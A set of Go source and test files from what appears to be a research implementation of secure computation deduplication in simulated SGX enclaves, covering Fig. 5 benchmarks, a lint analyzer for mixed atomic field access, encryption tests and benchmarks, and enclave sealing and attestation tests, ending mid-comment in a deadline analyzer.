package bench

import (
	"fmt"
	"strings"

	"speed/internal/compress"
	"speed/internal/dedup"
	"speed/internal/mapreduce"
	"speed/internal/pattern"
	"speed/internal/sift"
	"speed/internal/workload"
)

// Fig5Row is one bar group of Fig. 5: for one input size of one
// application, the baseline running time (no SPEED), the initial
// computation (SPEED, miss: compute + encrypt + store), and the
// subsequent computation (SPEED, hit: fetch + verify + decrypt).
type Fig5Row struct {
	// Label describes the input (size or volume).
	Label string
	// BaselineMS, InitMS and SubsqMS are mean times in milliseconds.
	BaselineMS, InitMS, SubsqMS float64
	// InitPct and SubsqPct are relative to baseline (the paper's
	// y-axis; baseline = 100%).
	InitPct, SubsqPct float64
	// Speedup is BaselineMS / SubsqMS, the headline number.
	Speedup float64
}

func newFig5Row(label string, baseMS, initMS, subsqMS float64) Fig5Row {
	r := Fig5Row{Label: label, BaselineMS: baseMS, InitMS: initMS, SubsqMS: subsqMS}
	if baseMS > 0 {
		r.InitPct = initMS / baseMS * 100
		r.SubsqPct = subsqMS / baseMS * 100
	}
	if subsqMS > 0 {
		r.Speedup = baseMS / subsqMS
	}
	return r
}

// runCase measures one application case: compute is the deterministic
// function under test, input its serialized input. It returns
// (baseline, init, subsq) mean times.
//
// The baseline executes the computation inside the application enclave
// without SPEED (the red 100% line of Fig. 5); the initial computation
// runs Algorithm 1 on a cold store; the subsequent computation runs
// Algorithm 2 against the warm store.
func runCase(trials int, funcName string, input []byte, compute func([]byte) ([]byte, error)) (baseMS, initMS, subsqMS float64, err error) {
	e, err := newEnv(true)
	if err != nil {
		return 0, 0, 0, err
	}
	defer e.close()

	// Baseline: in-enclave execution, no deduplication.
	baseT, err := timeIt(trials, func() error {
		return e.appEnc.ECall(func() error {
			_, cerr := compute(input)
			return cerr
		})
	})
	if err != nil {
		return 0, 0, 0, err
	}

	e.runtime.Registry().RegisterLibrary("benchlib", "1.0", []byte("bench library code"))
	id, err := e.runtime.Resolve(benchDesc(funcName, "1.0"))
	if err != nil {
		return 0, 0, 0, err
	}

	// Initial computation: every trial must be a miss, so vary a
	// per-trial input suffix... but that would change the computation.
	// Instead use distinct fresh environments? Cheaper: distinct
	// FuncIDs per trial by registering per-trial versions — the cost
	// profile is identical and the computation stays byte-identical.
	initTrial := 0
	initT, err := timeIt(trials, func() error {
		initTrial++
		version := fmt.Sprintf("1.0.%d", initTrial)
		e.runtime.Registry().RegisterLibrary("benchlib", version, []byte("bench library code"))
		trialID, rerr := e.runtime.Resolve(benchDesc(funcName, version))
		if rerr != nil {
			return rerr
		}
		_, _, xerr := e.runtime.Execute(trialID, input, compute)
		return xerr
	})
	if err != nil {
		return 0, 0, 0, err
	}

	// Warm the store once for the subsequent-computation measurement.
	if _, _, err := e.runtime.Execute(id, input, compute); err != nil {
		return 0, 0, 0, err
	}
	subsqT, err := timeIt(trials, func() error {
		_, outcome, xerr := e.runtime.Execute(id, input, compute)
		if xerr != nil {
			return xerr
		}
		if outcome != dedup.OutcomeReused {
			return fmt.Errorf("bench: expected reuse, got %v", outcome)
		}
		return nil
	})
	if err != nil {
		return 0, 0, 0, err
	}
	return ms(baseT), ms(initT), ms(subsqT), nil
}

// benchDesc is the function description under which bench computations
// are deduplicated.
func benchDesc(funcName, version string) dedup.FuncDesc {
	return dedup.FuncDesc{
		Library:   "benchlib",
		Version:   version,
		Signature: funcName + "(...)",
	}
}

// Fig5SIFT reproduces Fig. 5(a): SIFT feature extraction over images of
// increasing size.
func Fig5SIFT(sizes []int, trials int) ([]Fig5Row, error) {
	if len(sizes) == 0 {
		sizes = []int{64, 128, 192, 256}
	}
	src := workload.New(101)
	rows := make([]Fig5Row, 0, len(sizes))
	for _, size := range sizes {
		img := src.Image(size, size)
		input := sift.EncodeGray(img)
		compute := func(in []byte) ([]byte, error) {
			g, err := sift.DecodeGray(in)
			if err != nil {
				return nil, err
			}
			return sift.EncodeKeypoints(sift.Detect(g, sift.DefaultParams())), nil
		}
		base, initMS, subsq, err := runCase(trials, "sift", input, compute)
		if err != nil {
			return nil, err
		}
		rows = append(rows, newFig5Row(fmt.Sprintf("%dx%d", size, size), base, initMS, subsq))
	}
	return rows, nil
}

// Fig5Compress reproduces Fig. 5(b): data compression over text files
// of increasing size.
func Fig5Compress(sizes []int, trials int) ([]Fig5Row, error) {
	if len(sizes) == 0 {
		sizes = []int{256 << 10, 512 << 10, 1 << 20, 2 << 20}
	}
	src := workload.New(102)
	rows := make([]Fig5Row, 0, len(sizes))
	for _, size := range sizes {
		input := src.Text(size)
		compute := func(in []byte) ([]byte, error) {
			return compress.Compress(in), nil
		}
		base, initMS, subsq, err := runCase(trials, "deflate", input, compute)
		if err != nil {
			return nil, err
		}
		rows = append(rows, newFig5Row(fmt.Sprintf("%dKB", size>>10), base, initMS, subsq))
	}
	return rows, nil
}

// Fig5Pattern reproduces Fig. 5(c): matching traffic payloads against a
// large rule set (the paper used >3,700 Snort rules over 4M+ packets).
// The deduplicated computation matches the paper's methodology: each
// rule is evaluated individually (pcre_exec per rule), which is what
// makes the baseline so slow and the speedup so large. Pass
// prefilter=true to use the optimized Aho–Corasick engine instead — an
// ablation showing that a faster matching engine shrinks (but does not
// eliminate) the deduplication win.
func Fig5Pattern(payloadSizes []int, numRules, trials int) ([]Fig5Row, error) {
	return fig5Pattern(payloadSizes, numRules, trials, false)
}

// Fig5PatternPrefilter is Fig5Pattern over the Aho–Corasick-optimized
// engine.
func Fig5PatternPrefilter(payloadSizes []int, numRules, trials int) ([]Fig5Row, error) {
	return fig5Pattern(payloadSizes, numRules, trials, true)
}

func fig5Pattern(payloadSizes []int, numRules, trials int, prefilter bool) ([]Fig5Row, error) {
	if len(payloadSizes) == 0 {
		// Per-call payloads stay packet-scale, as in the paper's
		// trace-driven evaluation.
		payloadSizes = []int{2 << 10, 8 << 10, 32 << 10, 128 << 10}
	}
	if numRules <= 0 {
		numRules = 3700
	}
	src := workload.New(103)
	rules := src.SnortRules(numRules)
	rs, err := pattern.CompileRules(rules)
	if err != nil {
		return nil, err
	}
	scan := rs.ScanSequential
	if prefilter {
		scan = rs.Scan
	}
	rows := make([]Fig5Row, 0, len(payloadSizes))
	for _, size := range payloadSizes {
		// A payload buffer assembled from packets, some carrying rule
		// hits.
		var payload []byte
		for len(payload) < size {
			payload = append(payload, src.Packet(512, rules, 0.05)...)
		}
		payload = payload[:size]
		compute := func(in []byte) ([]byte, error) {
			return pattern.EncodeScanResult(scan(in)), nil
		}
		base, initMS, subsq, err := runCase(trials, "pcre_exec", payload, compute)
		if err != nil {
			return nil, err
		}
		rows = append(rows, newFig5Row(fmt.Sprintf("%dKB", size>>10), base, initMS, subsq))
	}
	return rows, nil
}

// Fig5BoW reproduces Fig. 5(d): bag-of-words over web-page corpora of
// increasing volume.
func Fig5BoW(pageCounts []int, trials int) ([]Fig5Row, error) {
	if len(pageCounts) == 0 {
		pageCounts = []int{300, 1000, 3000, 10000}
	}
	src := workload.New(104)
	rows := make([]Fig5Row, 0, len(pageCounts))
	for _, n := range pageCounts {
		var corpus strings.Builder
		for i := 0; i < n; i++ {
			corpus.WriteString(src.WebPage(200))
			corpus.WriteByte('\n')
		}
		input := []byte(corpus.String())
		compute := func(in []byte) ([]byte, error) {
			docs := strings.Split(string(in), "\n")
			counts, err := mapreduce.BagOfWords(docs, 4)
			if err != nil {
				return nil, err
			}
			return mapreduce.EncodeCounts(counts), nil
		}
		base, initMS, subsq, err := runCase(trials, "bow_mapper", input, compute)
		if err != nil {
			return nil, err
		}
		rows = append(rows, newFig5Row(fmt.Sprintf("%d pages", n), base, initMS, subsq))
	}
	return rows, nil
}

// RenderFig5 formats one application's rows like a panel of Fig. 5.
func RenderFig5(title string, rows []Fig5Row) string {
	s := fmt.Sprintf("Fig. 5 panel: %s (baseline = 100%%)\n", title)
	s += fmt.Sprintf("%-12s %12s %12s %12s %10s %10s %9s\n",
		"Input", "Base(ms)", "Init(ms)", "Subsq(ms)", "Init(%)", "Subsq(%)", "Speedup")
	for _, r := range rows {
		s += fmt.Sprintf("%-12s %12.2f %12.2f %12.2f %10.1f %10.2f %8.1fx\n",
			r.Label, r.BaselineMS, r.InitMS, r.SubsqMS, r.InitPct, r.SubsqPct, r.Speedup)
	}
	return s
}
