package lint

import (
	"go/ast"
	"go/token"
	"go/types"
	"sort"
)

// AtomicMixAnalyzer guards the telemetry counters and the Stats
// snapshot discipline: a struct field (or package-level variable) that
// is accessed through sync/atomic anywhere must be accessed atomically
// everywhere in the package. A single plain `s.n++` next to an
// `atomic.AddInt64(&s.n, 1)` is a data race the race detector only
// catches if a test happens to interleave the two; this analyzer
// catches it statically.
//
// Fields of the sync/atomic value types (atomic.Int64 etc.) are safe by
// construction and are not tracked. Composite-literal initialisation is
// allowed: construction happens before publication.
var AtomicMixAnalyzer = &Analyzer{
	Name: "atomicmix",
	Doc:  "fields accessed via sync/atomic anywhere must be accessed atomically everywhere",
	Run:  runAtomicMix,
}

// atomicFuncs are the sync/atomic operations whose first argument is a
// pointer to the guarded word.
var atomicFuncs = map[string]bool{
	"AddInt32": true, "AddInt64": true, "AddUint32": true, "AddUint64": true, "AddUintptr": true,
	"LoadInt32": true, "LoadInt64": true, "LoadUint32": true, "LoadUint64": true, "LoadUintptr": true, "LoadPointer": true,
	"StoreInt32": true, "StoreInt64": true, "StoreUint32": true, "StoreUint64": true, "StoreUintptr": true, "StorePointer": true,
	"SwapInt32": true, "SwapInt64": true, "SwapUint32": true, "SwapUint64": true, "SwapUintptr": true, "SwapPointer": true,
	"CompareAndSwapInt32": true, "CompareAndSwapInt64": true, "CompareAndSwapUint32": true,
	"CompareAndSwapUint64": true, "CompareAndSwapUintptr": true, "CompareAndSwapPointer": true,
}

func runAtomicMix(pass *Pass) {
	pkg := pass.Pkg

	// Pass 1: objects (struct fields or variables) passed by address to
	// a sync/atomic operation.
	atomicObjs := make(map[types.Object]token.Pos) // object -> first atomic site
	for _, f := range pkg.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			if obj, call := atomicArgObject(pkg, n); obj != nil {
				if _, seen := atomicObjs[obj]; !seen {
					atomicObjs[obj] = call.Pos()
				}
			}
			return true
		})
	}
	if len(atomicObjs) == 0 {
		return
	}

	// Pass 2: every other access to those objects must be atomic.
	w := &atomicMixWalker{pkg: pkg, tracked: atomicObjs}
	for _, f := range pkg.Files {
		w.walk(f, false)
	}
	sort.Slice(w.findings, func(i, j int) bool { return w.findings[i].pos < w.findings[j].pos })
	for _, f := range w.findings {
		atomicPos := pkg.Fset.Position(atomicObjs[f.obj])
		pass.Reportf(f.pos, "non-atomic access to %s, which is accessed via sync/atomic at line %d; mixed access is a data race",
			f.name, atomicPos.Line)
	}
}

// atomicArgObject recognises an atomic.Xxx(&lvalue, ...) call node and
// resolves the guarded object; (nil, nil) otherwise.
func atomicArgObject(pkg *Package, n ast.Node) (types.Object, *ast.CallExpr) {
	call, ok := n.(*ast.CallExpr)
	if !ok || len(call.Args) == 0 {
		return nil, nil
	}
	sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
	if !ok || !atomicFuncs[sel.Sel.Name] {
		return nil, nil
	}
	if pkgPathOf(pkg, sel.X) != "sync/atomic" {
		return nil, nil
	}
	addr, ok := ast.Unparen(call.Args[0]).(*ast.UnaryExpr)
	if !ok || addr.Op != token.AND {
		return nil, nil
	}
	if obj := objectOfExpr(pkg, addr.X); obj != nil {
		return obj, call
	}
	return nil, nil
}

type atomicFinding struct {
	pos  token.Pos
	name string
	obj  types.Object
}

// atomicMixWalker walks a file reporting plain accesses to tracked
// objects. inLit tracks composite-literal context (initialisation is
// exempt); sanctioned atomic-call arguments are skipped by not
// descending into them.
type atomicMixWalker struct {
	pkg      *Package
	tracked  map[types.Object]token.Pos
	findings []atomicFinding
}

func (w *atomicMixWalker) walk(n ast.Node, inLit bool) {
	if n == nil {
		return
	}
	switch n := n.(type) {
	case *ast.CallExpr:
		if obj, _ := atomicArgObject(w.pkg, n); obj != nil {
			// The &x argument is the sanctioned atomic access; still
			// walk the remaining arguments.
			w.walk(n.Fun, inLit)
			for _, a := range n.Args[1:] {
				w.walk(a, inLit)
			}
			return
		}
	case *ast.CompositeLit:
		for _, e := range n.Elts {
			w.walk(e, true)
		}
		return
	case *ast.SelectorExpr:
		if w.check(n, n.Sel, inLit) {
			return
		}
		// A plain (untracked) selector: only its base can contain
		// further accesses; Sel must not be revisited as an Ident.
		w.walk(n.X, inLit)
		return
	case *ast.Ident:
		w.check(n, n, inLit)
		return
	case *ast.KeyValueExpr:
		// Keys in composite literals are field names, not accesses.
		w.walk(n.Value, inLit)
		return
	}
	// Generic traversal for all other nodes.
	ast.Inspect(n, func(child ast.Node) bool {
		if child == nil || child == n {
			return child == n
		}
		w.walk(child, inLit)
		return false
	})
}

// check records a finding if ident id (appearing in node n) resolves to
// a tracked object outside sanctioned contexts. Returns true when the
// node was a tracked access (handled).
func (w *atomicMixWalker) check(n ast.Node, id *ast.Ident, inLit bool) bool {
	obj := w.pkg.Info.Uses[id]
	if obj == nil {
		return false
	}
	if _, ok := w.tracked[obj]; !ok {
		return false
	}
	if !inLit {
		w.findings = append(w.findings, atomicFinding{pos: n.Pos(), name: id.Name, obj: obj})
	}
	return true
}

// objectOfExpr resolves the variable or field object an lvalue
// expression denotes.
func objectOfExpr(pkg *Package, e ast.Expr) types.Object {
	switch e := ast.Unparen(e).(type) {
	case *ast.Ident:
		if obj := pkg.Info.Uses[e]; obj != nil {
			return obj
		}
		return pkg.Info.Defs[e]
	case *ast.SelectorExpr:
		if sel, ok := pkg.Info.Selections[e]; ok {
			return sel.Obj()
		}
		return pkg.Info.Uses[e.Sel]
	}
	return nil
}
