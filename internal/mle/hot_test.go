package mle

import (
	"bytes"
	"testing"
)

// detRand is a deterministic randomness source for benchmarks.
type detRand struct{ x byte }

func (d *detRand) Read(p []byte) (int, error) {
	for i := range p {
		d.x = d.x*167 + 13
		p[i] = d.x
	}
	return len(p), nil
}

func TestSealedClone(t *testing.T) {
	s := Sealed{
		Challenge:  []byte{1, 2, 3},
		WrappedKey: []byte{4, 5},
		Blob:       []byte{6, 7, 8, 9},
	}
	c := s.Clone()
	if !bytes.Equal(c.Challenge, s.Challenge) || !bytes.Equal(c.WrappedKey, s.WrappedKey) || !bytes.Equal(c.Blob, s.Blob) {
		t.Fatal("clone differs from original")
	}
	// Deep: mutating the original must not show through the clone.
	s.Challenge[0], s.WrappedKey[0], s.Blob[0] = 0xFF, 0xFF, 0xFF
	if c.Challenge[0] == 0xFF || c.WrappedKey[0] == 0xFF || c.Blob[0] == 0xFF {
		t.Error("clone aliases the original's backing arrays")
	}
	// Nil fields stay nil (wire encodes nil and empty identically).
	n := Sealed{}.Clone()
	if n.Challenge != nil || n.WrappedKey != nil || n.Blob != nil {
		t.Error("clone of zero Sealed grew non-nil fields")
	}
}

// TestSealBlobExactSize pins the single-allocation seal layout: the
// blob is exactly nonce || ciphertext || tag with no spare capacity
// from an append-grow.
func TestSealBlobExactSize(t *testing.T) {
	key := make([]byte, KeySize)
	result := bytes.Repeat([]byte{0xAA}, 1000)
	blob, err := EncryptResult(key, result, &detRand{})
	if err != nil {
		t.Fatal(err)
	}
	want := nonceSize + len(result) + 16 // GCM tag
	if len(blob) != want {
		t.Fatalf("blob length %d, want %d", len(blob), want)
	}
	if cap(blob) != want {
		t.Errorf("blob capacity %d, want exactly %d (seal should size its output exactly)", cap(blob), want)
	}
	got, err := DecryptResult(key, blob)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, result) {
		t.Error("decrypt mismatch after exact-size seal")
	}
}

// Hot-path benchmarks for the crypto ops on the dedup-hit path, fed to
// the benchstat regression gate (make bench-regress). Sizes follow the
// paper's Table I microbenchmark shape with a 4 KiB result.

var benchTagSink Tag

func BenchmarkHotComputeTag(b *testing.B) {
	id := FuncID{1, 2, 3}
	input := bytes.Repeat([]byte{0x5C}, 4096)
	b.SetBytes(int64(len(input)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		benchTagSink = ComputeTag(id, input)
	}
}

var benchBlobSink []byte

func BenchmarkHotEncryptResult(b *testing.B) {
	key := make([]byte, KeySize)
	result := bytes.Repeat([]byte{0xE7}, 4096)
	rnd := &detRand{}
	b.SetBytes(int64(len(result)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		blob, err := EncryptResult(key, result, rnd)
		if err != nil {
			b.Fatal(err)
		}
		benchBlobSink = blob
	}
}

func BenchmarkHotDecryptResult(b *testing.B) {
	key := make([]byte, KeySize)
	result := bytes.Repeat([]byte{0xE7}, 4096)
	blob, err := EncryptResult(key, result, &detRand{})
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(result)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		got, err := DecryptResult(key, blob)
		if err != nil {
			b.Fatal(err)
		}
		benchBlobSink = got
	}
}

func BenchmarkHotKeyRec(b *testing.B) {
	id := FuncID{9}
	input := bytes.Repeat([]byte{0x11}, 4096)
	challenge, wrapped, key, err := KeyGen(id, input, &detRand{})
	if err != nil {
		b.Fatal(err)
	}
	Zeroize(key)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		k, err := KeyRec(id, input, challenge, wrapped)
		if err != nil {
			b.Fatal(err)
		}
		Zeroize(k)
	}
}
