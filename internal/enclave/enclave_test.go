package enclave

import (
	"bytes"
	"errors"
	"sync"
	"testing"
	"time"
)

func newTestPlatform(t *testing.T, cfg Config) *Platform {
	t.Helper()
	return NewPlatform(cfg)
}

func TestCreateMeasurementDeterministic(t *testing.T) {
	p := newTestPlatform(t, Config{})
	code := []byte("application code v1")
	e1, err := p.Create("a", code)
	if err != nil {
		t.Fatalf("Create a: %v", err)
	}
	e2, err := p.Create("b", code)
	if err != nil {
		t.Fatalf("Create b: %v", err)
	}
	if e1.Measurement() != e2.Measurement() {
		t.Errorf("same code produced different measurements: %v vs %v",
			e1.Measurement(), e2.Measurement())
	}
	e3, err := p.Create("c", []byte("application code v2"))
	if err != nil {
		t.Fatalf("Create c: %v", err)
	}
	if e1.Measurement() == e3.Measurement() {
		t.Error("different code produced identical measurements")
	}
}

func TestCreateDuplicateName(t *testing.T) {
	p := newTestPlatform(t, Config{})
	if _, err := p.Create("dup", []byte("x")); err != nil {
		t.Fatalf("first Create: %v", err)
	}
	if _, err := p.Create("dup", []byte("y")); err == nil {
		t.Error("duplicate name accepted")
	}
}

func TestAllocFreeAccounting(t *testing.T) {
	p := newTestPlatform(t, Config{EPCBytes: 1 << 20, EPCUsableBytes: 1 << 20})
	e, err := p.Create("app", []byte("code"))
	if err != nil {
		t.Fatalf("Create: %v", err)
	}
	if err := e.Alloc(1000); err != nil {
		t.Fatalf("Alloc: %v", err)
	}
	if got := e.HeapUsed(); got != 1000 {
		t.Errorf("HeapUsed = %d, want 1000", got)
	}
	if got := p.EPCUsed(); got != 1000 {
		t.Errorf("EPCUsed = %d, want 1000", got)
	}
	e.Free(400)
	if got := e.HeapUsed(); got != 600 {
		t.Errorf("HeapUsed after Free = %d, want 600", got)
	}
	if got := p.EPCUsed(); got != 600 {
		t.Errorf("EPCUsed after Free = %d, want 600", got)
	}
	// Over-free clamps to zero rather than going negative.
	e.Free(10_000)
	if got := e.HeapUsed(); got != 0 {
		t.Errorf("HeapUsed after over-free = %d, want 0", got)
	}
}

func TestAllocOutOfMemory(t *testing.T) {
	p := newTestPlatform(t, Config{EPCBytes: 4096, EPCUsableBytes: 4096})
	e, err := p.Create("app", []byte("code"))
	if err != nil {
		t.Fatalf("Create: %v", err)
	}
	if err := e.Alloc(4096); err != nil {
		t.Fatalf("Alloc within budget: %v", err)
	}
	err = e.Alloc(1)
	if !errors.Is(err, ErrOutOfMemory) {
		t.Errorf("Alloc beyond EPC = %v, want ErrOutOfMemory", err)
	}
}

func TestAllocNegative(t *testing.T) {
	p := newTestPlatform(t, Config{})
	e, _ := p.Create("app", []byte("code"))
	if err := e.Alloc(-5); err == nil {
		t.Error("negative Alloc accepted")
	}
}

func TestPagingPenaltyCounted(t *testing.T) {
	p := newTestPlatform(t, Config{
		EPCBytes:       1 << 20,
		EPCUsableBytes: 8192,
		PagingCost:     time.Nanosecond,
	})
	e, _ := p.Create("app", []byte("code"))
	if err := e.Alloc(8192); err != nil {
		t.Fatalf("Alloc within usable: %v", err)
	}
	if got := e.Metrics().PageFaults; got != 0 {
		t.Fatalf("PageFaults within usable budget = %d, want 0", got)
	}
	if err := e.Alloc(10_000); err != nil {
		t.Fatalf("Alloc beyond usable: %v", err)
	}
	// 10_000 bytes past the boundary is ceil(10000/4096) = 3 pages.
	if got := e.Metrics().PageFaults; got != 3 {
		t.Errorf("PageFaults = %d, want 3", got)
	}
}

func TestECallOCallMetrics(t *testing.T) {
	p := newTestPlatform(t, Config{})
	e, _ := p.Create("app", []byte("code"))
	ran := 0
	if err := e.ECall(func() error { ran++; return nil }); err != nil {
		t.Fatalf("ECall: %v", err)
	}
	if err := e.OCall(func() error { ran++; return nil }); err != nil {
		t.Fatalf("OCall: %v", err)
	}
	if ran != 2 {
		t.Errorf("callbacks ran %d times, want 2", ran)
	}
	m := e.Metrics()
	if m.ECalls != 1 || m.OCalls != 1 {
		t.Errorf("Metrics = %+v, want 1 ECall and 1 OCall", m)
	}
}

func TestECallPropagatesError(t *testing.T) {
	p := newTestPlatform(t, Config{})
	e, _ := p.Create("app", []byte("code"))
	want := errors.New("inner failure")
	if err := e.ECall(func() error { return want }); !errors.Is(err, want) {
		t.Errorf("ECall error = %v, want %v", err, want)
	}
}

func TestTransitionCostSimulated(t *testing.T) {
	cost := 200 * time.Microsecond
	p := newTestPlatform(t, Config{TransitionCost: cost, SimulateCosts: true})
	e, _ := p.Create("app", []byte("code"))
	start := time.Now()
	if err := e.ECall(func() error { return nil }); err != nil {
		t.Fatalf("ECall: %v", err)
	}
	elapsed := time.Since(start)
	if elapsed < 2*cost {
		t.Errorf("ECall took %v, want >= %v (entry + exit)", elapsed, 2*cost)
	}

	// Without simulation the same call should be far cheaper.
	p2 := newTestPlatform(t, Config{TransitionCost: cost, SimulateCosts: false})
	e2, _ := p2.Create("app", []byte("code"))
	start = time.Now()
	if err := e2.ECall(func() error { return nil }); err != nil {
		t.Fatalf("ECall: %v", err)
	}
	if fast := time.Since(start); fast > cost {
		t.Errorf("un-simulated ECall took %v, want < %v", fast, cost)
	}
}

func TestDestroyReleasesEPC(t *testing.T) {
	p := newTestPlatform(t, Config{})
	e, _ := p.Create("app", []byte("code"))
	if err := e.Alloc(1 << 16); err != nil {
		t.Fatalf("Alloc: %v", err)
	}
	e.Destroy()
	if got := p.EPCUsed(); got != 0 {
		t.Errorf("EPCUsed after Destroy = %d, want 0", got)
	}
	if err := e.ECall(func() error { return nil }); !errors.Is(err, ErrDestroyed) {
		t.Errorf("ECall after Destroy = %v, want ErrDestroyed", err)
	}
	if err := e.Alloc(1); !errors.Is(err, ErrDestroyed) {
		t.Errorf("Alloc after Destroy = %v, want ErrDestroyed", err)
	}
	// Name can be reused after destruction.
	if _, err := p.Create("app", []byte("code")); err != nil {
		t.Errorf("Create after Destroy: %v", err)
	}
}

func TestDestroyIdempotent(t *testing.T) {
	p := newTestPlatform(t, Config{})
	e, _ := p.Create("app", []byte("code"))
	if err := e.Alloc(4096); err != nil {
		t.Fatalf("Alloc: %v", err)
	}
	e.Destroy()
	e.Destroy()
	if got := p.EPCUsed(); got != 0 {
		t.Errorf("EPCUsed after double Destroy = %d, want 0", got)
	}
}

func TestSealUnsealRoundTrip(t *testing.T) {
	p := newTestPlatform(t, Config{})
	e, _ := p.Create("app", []byte("code"))
	secret := []byte("sensitive state blob")
	sealed, err := e.Seal(secret)
	if err != nil {
		t.Fatalf("Seal: %v", err)
	}
	if bytes.Contains(sealed, secret) {
		t.Error("sealed blob contains plaintext")
	}
	got, err := e.Unseal(sealed)
	if err != nil {
		t.Fatalf("Unseal: %v", err)
	}
	if !bytes.Equal(got, secret) {
		t.Errorf("Unseal = %q, want %q", got, secret)
	}
}

func TestSealBoundToMeasurement(t *testing.T) {
	p := newTestPlatform(t, Config{})
	e1, _ := p.Create("a", []byte("code v1"))
	e2, _ := p.Create("b", []byte("code v2"))
	sealed, err := e1.Seal([]byte("secret"))
	if err != nil {
		t.Fatalf("Seal: %v", err)
	}
	if _, err := e2.Unseal(sealed); !errors.Is(err, ErrUnsealFailed) {
		t.Errorf("cross-enclave Unseal = %v, want ErrUnsealFailed", err)
	}
}

func TestSealBoundToPlatform(t *testing.T) {
	code := []byte("same code")
	p1 := newTestPlatform(t, Config{})
	p2 := newTestPlatform(t, Config{})
	e1, _ := p1.Create("a", code)
	e2, _ := p2.Create("a", code)
	sealed, err := e1.Seal([]byte("secret"))
	if err != nil {
		t.Fatalf("Seal: %v", err)
	}
	if _, err := e2.Unseal(sealed); !errors.Is(err, ErrUnsealFailed) {
		t.Errorf("cross-platform Unseal = %v, want ErrUnsealFailed", err)
	}
}

func TestSealTamperDetected(t *testing.T) {
	p := newTestPlatform(t, Config{})
	e, _ := p.Create("app", []byte("code"))
	sealed, err := e.Seal([]byte("secret"))
	if err != nil {
		t.Fatalf("Seal: %v", err)
	}
	sealed[len(sealed)-1] ^= 0x01
	if _, err := e.Unseal(sealed); !errors.Is(err, ErrUnsealFailed) {
		t.Errorf("tampered Unseal = %v, want ErrUnsealFailed", err)
	}
	if _, err := e.Unseal(sealed[:4]); !errors.Is(err, ErrUnsealFailed) {
		t.Errorf("truncated Unseal = %v, want ErrUnsealFailed", err)
	}
}

func TestLocalAttestation(t *testing.T) {
	p := newTestPlatform(t, Config{})
	app, _ := p.Create("app", []byte("app code"))
	store, _ := p.Create("store", []byte("store code"))

	data := []byte("channel public key bytes")
	rep := app.Report(store.Measurement(), data)
	if err := store.VerifyReport(rep); err != nil {
		t.Fatalf("VerifyReport: %v", err)
	}
	if rep.Measurement != app.Measurement() {
		t.Error("report does not carry the reporting enclave's measurement")
	}
	if !bytes.Equal(rep.Data[:len(data)], data) {
		t.Error("report data not embedded")
	}
}

func TestAttestationRejectsWrongTarget(t *testing.T) {
	p := newTestPlatform(t, Config{})
	app, _ := p.Create("app", []byte("app code"))
	store, _ := p.Create("store", []byte("store code"))
	other, _ := p.Create("other", []byte("other code"))

	rep := app.Report(store.Measurement(), nil)
	if err := other.VerifyReport(rep); !errors.Is(err, ErrAttestation) {
		t.Errorf("VerifyReport at wrong target = %v, want ErrAttestation", err)
	}
}

func TestAttestationRejectsTamper(t *testing.T) {
	p := newTestPlatform(t, Config{})
	app, _ := p.Create("app", []byte("app code"))
	store, _ := p.Create("store", []byte("store code"))

	rep := app.Report(store.Measurement(), []byte("pubkey"))
	rep.Data[0] ^= 0xff
	if err := store.VerifyReport(rep); !errors.Is(err, ErrAttestation) {
		t.Errorf("tampered VerifyReport = %v, want ErrAttestation", err)
	}
}

func TestAttestationRejectsCrossPlatform(t *testing.T) {
	code := []byte("store code")
	p1 := newTestPlatform(t, Config{})
	p2 := newTestPlatform(t, Config{})
	app, _ := p1.Create("app", []byte("app code"))
	store1, _ := p1.Create("store", code)
	store2, _ := p2.Create("store", code)

	rep := app.Report(store1.Measurement(), nil)
	if err := store2.VerifyReport(rep); !errors.Is(err, ErrAttestation) {
		t.Errorf("cross-platform VerifyReport = %v, want ErrAttestation", err)
	}
}

func TestReportMarshalRoundTrip(t *testing.T) {
	p := newTestPlatform(t, Config{})
	app, _ := p.Create("app", []byte("app code"))
	store, _ := p.Create("store", []byte("store code"))
	rep := app.Report(store.Measurement(), []byte("hello"))

	got, err := UnmarshalReport(rep.Marshal())
	if err != nil {
		t.Fatalf("UnmarshalReport: %v", err)
	}
	if got != rep {
		t.Errorf("round trip mismatch: got %+v want %+v", got, rep)
	}
	if _, err := UnmarshalReport([]byte("short")); err == nil {
		t.Error("UnmarshalReport accepted malformed input")
	}
}

func TestConcurrentAllocECall(t *testing.T) {
	p := newTestPlatform(t, Config{})
	e, _ := p.Create("app", []byte("code"))
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				if err := e.Alloc(64); err != nil {
					t.Errorf("Alloc: %v", err)
					return
				}
				_ = e.ECall(func() error { return nil })
				e.Free(64)
			}
		}()
	}
	wg.Wait()
	if got := e.HeapUsed(); got != 0 {
		t.Errorf("HeapUsed after balanced alloc/free = %d, want 0", got)
	}
	if got := e.Metrics().ECalls; got != 1600 {
		t.Errorf("ECalls = %d, want 1600", got)
	}
}

func TestConfigDefaults(t *testing.T) {
	p := newTestPlatform(t, Config{})
	cfg := p.Config()
	if cfg.EPCBytes != DefaultEPCBytes {
		t.Errorf("EPCBytes = %d, want %d", cfg.EPCBytes, DefaultEPCBytes)
	}
	if cfg.EPCUsableBytes != DefaultEPCUsableBytes {
		t.Errorf("EPCUsableBytes = %d, want %d", cfg.EPCUsableBytes, DefaultEPCUsableBytes)
	}
	if cfg.TransitionCost != DefaultTransitionCost {
		t.Errorf("TransitionCost = %v, want %v", cfg.TransitionCost, DefaultTransitionCost)
	}
	if cfg.PagingCost != DefaultPagingCost {
		t.Errorf("PagingCost = %v, want %v", cfg.PagingCost, DefaultPagingCost)
	}
}
