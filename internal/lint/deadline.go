package lint

import (
	"go/ast"
	"go/token"
	"strings"
)

// DeadlineAnalyzer enforces SPEED's availability invariant on the
// Runtime-ResultStore path: a stalled or malicious peer must cost a
// bounded amount of time, never a wedged goroutine.
//
//   - Channel / net.Conn reads and writes must be lexically preceded by
//     a SetDeadline-family call in the same function, or the function
//     must bound the wait another way (time.NewTimer / time.After /
